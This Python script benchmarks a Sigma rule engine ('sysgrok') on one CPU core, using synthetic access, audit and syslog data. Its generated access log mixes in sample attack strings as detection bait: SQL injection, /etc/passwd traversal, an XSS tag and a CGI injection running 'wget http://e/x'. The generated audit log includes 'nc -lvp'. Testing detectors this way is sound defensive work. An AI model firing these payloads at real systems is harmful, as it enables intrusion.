#!/usr/bin/env python3
"""Sigma rule engine throughput on one core with the whole SigmaHQ set plus the built-ins.

Builds three inputs in a RAM-backed directory (about --lines lines in all):
  syslog.log  the real loghub OpenSSH_2k and Linux_2k lines, repeated (sshd, su, cron, ...)
  access.log  generated combined-format access lines (random paths, statuses, agents; 2% of
              them carry SQLi / traversal / XSS / scanner patterns)
  audit.log   generated auditd EXECVE / SYSCALL / PATH / USER_CMD records
then runs, pinned to one CPU (taskset -c 0),
  sysgrok rules test --no-merge --rules ../shared/data/security/sigma-rules -o /dev/null FILES
best of --runs. Reported: end-to-end lines/s (read + parse + rules) and rule-engine events/s
(the time spent inside engine_state::process, printed by `rules test`). Writes the markdown
section `## Security rules (issue 7)` to --out. Skips cleanly (exit 0, a note in --out) when
the shared data is absent.
"""
import argparse
import os
import random
import re
import shutil
import subprocess
import tempfile
import time


def gen_access(path, n, rnd):
    agents = ['Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0', 'curl/8.4.0',
              'Mozilla/5.0 (Windows NT 10.0) Chrome/119.0', 'Googlebot/2.1']
    attacks = ['/item.php?id=1%20union%20select%201,2,3', '/../../etc/passwd',
               '/s?q=<script>alert(1)</script>', '/cgi-bin/x?c=;wget%20http://e/x']
    bad_agents = ['sqlmap/1.7', 'Nikto/2.5', 'masscan/1.3']
    words = ['index', 'api', 'v1', 'users', 'static', 'img', 'css', 'js', 'login', 'search']
    with open(path, 'w') as f:
        for i in range(n):
            ip = '10.%d.%d.%d' % (rnd.randrange(256), rnd.randrange(256), rnd.randrange(1, 255))
            if rnd.random() < 0.02:
                target = rnd.choice(attacks)
                agent = rnd.choice(bad_agents + agents)
            else:
                target = '/' + '/'.join(rnd.choice(words) for _ in range(rnd.randrange(1, 4)))
                if rnd.random() < 0.3:
                    target += '?id=%d&page=%d' % (rnd.randrange(10000), rnd.randrange(50))
                agent = rnd.choice(agents)
            status = rnd.choice([200, 200, 200, 301, 304, 404, 500])
            sec = i // 50
            ts = '10/Dec/2026:%02d:%02d:%02d +0000' % (sec // 3600 % 24, sec // 60 % 60, sec % 60)
            f.write('%s - - [%s] "GET %s HTTP/1.1" %d %d "-" "%s"\n' %
                    (ip, ts, target, status, rnd.randrange(100, 50000), agent))


def gen_audit(path, n, rnd):
    cmds = [('ls', '-la'), ('cat', '/etc/hosts'), ('bash', '-c'), ('python3', 'app.py'),
            ('grep', 'foo'), ('curl', 'http://example.com'), ('nc', '-lvp'), ('whoami', '')]
    with open(path, 'w') as f:
        for i in range(n):
            t = 1765350000 + i // 20
            k = i % 4
            c = rnd.choice(cmds)
            if k == 0:
                f.write('type=EXECVE msg=audit(%d.%03d:%d): argc=2 a0="%s" a1="%s"\n' %
                        (t, i % 1000, i, c[0], c[1]))
            elif k == 1:
                f.write('type=SYSCALL msg=audit(%d.%03d:%d): arch=c000003e syscall=59 '
                        'success=yes exit=0 a0=55d0 a1=55d1 a2=55d2 a3=0 items=2 ppid=1 '
                        'pid=%d auid=1000 uid=0 gid=0 comm="%s" exe="/usr/bin/%s" key="exec"\n'
                        % (t, i % 1000, i, 1000 + i % 5000, c[0], c[0]))
            elif k == 2:
                f.write('type=PATH msg=audit(%d.%03d:%d): item=0 name="/usr/bin/%s" '
                        'inode=%d dev=08:01 mode=0100755 ouid=0 ogid=0 nametype=NORMAL\n' %
                        (t, i % 1000, i, c[0], 1000 + i))
            else:
                f.write("type=USER_CMD msg=audit(%d.%03d:%d): pid=%d uid=1000 auid=1000 "
                        "msg='cwd=\"/home/u\" cmd=%s terminal=pts/0 res=success'\n" %
                        (t, i % 1000, i, i, (c[0] + ' ' + c[1]).encode().hex().upper()))


def gen_syslog(path, n, sources):
    lines = []
    for s in sources:
        with open(s, encoding='utf-8', errors='replace') as f:
            lines.extend(l.rstrip('\n') for l in f if l.strip())
    with open(path, 'w') as f:
        for i in range(n):
            f.write(lines[i % len(lines)] + '\n')


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument('--build', default='build')
    ap.add_argument('--shared', default='../shared/data')
    ap.add_argument('--lines', type=int, default=900_000)
    ap.add_argument('--runs', type=int, default=3)
    ap.add_argument('--out', required=True)
    a = ap.parse_args()
    sysgrok = os.path.join(a.build, 'sysgrok')
    sigma = os.path.join(a.shared, 'security', 'sigma-rules')
    ssh = os.path.join(a.shared, 'security', 'loghub', 'OpenSSH', 'OpenSSH_2k.log')
    linux = os.path.join(a.shared, 'loghub2k', 'Linux', 'Linux_2k.log')
    if not os.path.isdir(sigma) or not os.path.exists(ssh):
        with open(a.out, 'a') as f:
            f.write('## Security rules (issue 7)\n\nSkipped: shared data not found under %s.\n\n'
                    % a.shared)
        print('skipped: no shared data')
        return 0
    tmp = tempfile.mkdtemp(prefix='sysgrok-sigma-',
                           dir='/dev/shm' if os.path.isdir('/dev/shm') else None)
    try:
        rnd = random.Random(42)
        third = a.lines // 3
        files = [os.path.join(tmp, n) for n in ('syslog.log', 'access.log', 'audit.log')]
        gen_syslog(files[0], third, [p for p in (ssh, linux) if os.path.exists(p)])
        gen_access(files[1], third, rnd)
        gen_audit(files[2], third, rnd)
        total = 0
        for p in files:
            with open(p, 'rb') as f:
                total += sum(1 for _ in f)
        check = subprocess.run([sysgrok, 'rules', 'check', '--rules', sigma],
                               capture_output=True, text=True)
        summary = re.search(r'loaded \d+, unsupported \d+[^\n]*', check.stdout)
        taskset = ['taskset', '-c', '0'] if shutil.which('taskset') else []
        cmd = taskset + [sysgrok, 'rules', 'test', '--no-merge', '--rules', sigma, '-o',
                         '/dev/null'] + files
        best = None
        engine_rate = 0.0
        stats = ''
        for _ in range(a.runs):
            t0 = time.perf_counter()
            p = subprocess.run(cmd, capture_output=True, text=True)
            dt = time.perf_counter() - t0
            if p.returncode not in (0, 3):
                raise SystemExit('rules test failed: ' + p.stderr[-2000:])
            m = re.search(r'rules test: (.*\((\d+) events/s\))', p.stderr)
            if best is None or dt < best:
                best = dt
                if m:
                    stats, engine_rate = m.group(1), float(m.group(2))
        rows = [('lines', f'{total:,}'), ('rules', summary.group(0) if summary else '?'),
                ('end-to-end (read + parse + rules), one core', f'{total / best:,.0f} lines/s'),
                ('rule engine only (engine_state::process)', f'{engine_rate:,.0f} events/s'),
                ('best wall time', f'{best:.2f} s (best of {a.runs})')]
        with open(a.out, 'a') as f:
            f.write('## Security rules (issue 7)\n\n')
            f.write('Command (inputs generated by bench/sigma_bench.py: real loghub sshd/Linux '
                    'syslog lines, generated access-log and auditd lines, one third each):\n\n')
            f.write('```\n' + ' '.join(cmd) + '\n```\n\n| measure | value |\n|---|---|\n')
            for k, v in rows:
                f.write(f'| {k} | {v} |\n')
            f.write(f'\n`rules test` summary: {stats}\n\n')
        for k, v in rows:
            print(f'{k}: {v}')
    finally:
        shutil.rmtree(tmp, ignore_errors=True)
    return 0


if __name__ == '__main__':
    raise SystemExit(main())
